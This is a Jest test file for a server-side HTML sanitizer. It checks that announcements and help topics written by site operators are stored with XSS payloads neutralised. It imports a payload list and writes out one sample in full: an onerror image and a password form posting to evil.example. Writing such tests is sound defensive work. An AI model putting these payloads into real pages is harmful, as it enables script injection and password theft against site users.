import { JSDOM } from 'jsdom';
import { activeContent, KEPT_MARKUP, XSS_PAYLOADS } from '@site/shared/src/content/xss-payloads';
import { openTestDb } from '../../test/test-app';
import type { Db } from '../db/db';
import { upsertAnnouncement } from '../content/announcements.repository';
import { listHelpTopics, upsertHelpTopic } from '../system/help.repository';
import { escapeMarkup, sanitizeOperatorHtml } from './markup';

const parse = (html: string) => new JSDOM(`<body>${html}</body>`).window.document.body;

test('escapes what could end an attribute or open a tag, and leaves the rest', () => {
  expect(escapeMarkup(`Tom & Jerry's "<b>bonus</b>"`)).toBe('Tom &amp; Jerry&apos;s &quot;&lt;b&gt;bonus&lt;/b&gt;&quot;');
  expect(escapeMarkup('โบนัสต้อนรับ 100%')).toBe('โบนัสต้อนรับ 100%');
});

describe('operator HTML on the server had no sanitizer: DOMPurify (on jsdom) before it is stored', () => {
  test.each(XSS_PAYLOADS)('%s is made inert', async (_name, payload) => {
    expect(activeContent(parse(await sanitizeOperatorHtml(payload)))).toEqual([]);
  });

  test('what an operator writes comes through unchanged, plain text and simple tags as they are', async () => {
    expect(await sanitizeOperatorHtml(KEPT_MARKUP)).toBe(KEPT_MARKUP);
    expect(await sanitizeOperatorHtml('<p>Go to Member center &gt; Deposit</p>')).toBe('<p>Go to Member center &gt; Deposit</p>');
    expect(await sanitizeOperatorHtml('1 < 2 and <b>bold</b>')).toBe('1 &lt; 2 and <b>bold</b>');
  });
});

describe('help topics and notices are sanitized when written (a real database)', () => {
  let db: Db & { dispose(): Promise<void> };
  beforeAll(async () => {
    db = await openTestDb();
  });
  afterAll(() => db.dispose());

  test('a notice body with a javascript: link, a <base> and an SVG xlink:href is stored inert', async () => {
    const payload = XSS_PAYLOADS.filter(([name]) => /xlink|tab-split|base href/.test(name))
      .map(([, html]) => html)
      .join('');
    await upsertAnnouncement(db, 'DEMO', {
      key: 'xss-test',
      type: 'PL',
      sort: 999,
      th: ['หัวข้อ', payload],
      en: ['Title', `<p>ok</p>${payload}`],
    });
    const [row] = await db.query<{ content_th: string; content_en: string }>(
      `SELECT content_th, content_en FROM announcements WHERE seed_key = 'xss-test'`,
    );
    expect(activeContent(parse(row.content_th))).toEqual([]);
    expect(activeContent(parse(row.content_en))).toEqual([]);
    expect(row.content_en).toContain('<p>ok</p>');
    expect(row.content_th).toContain('click');
  });

  test('a help topic with an onerror image and a form is stored inert', async () => {
    await upsertHelpTopic(db, 'DEMO', {
      lang: 'EN',
      tag: 'xss-test',
      title: 'Bonus',
      sort: 999,
      content: '<p>Read <img src=x onerror=alert(1)></p><form action="https://evil.example"><input name="password"></form>',
    });
    const topic = (await listHelpTopics(db, 'DEMO', 'EN')).find((t) => t.tag === 'xss-test')!;
    expect(topic.content).toBe('<p>Read <img src="x"></p>');
  });
});
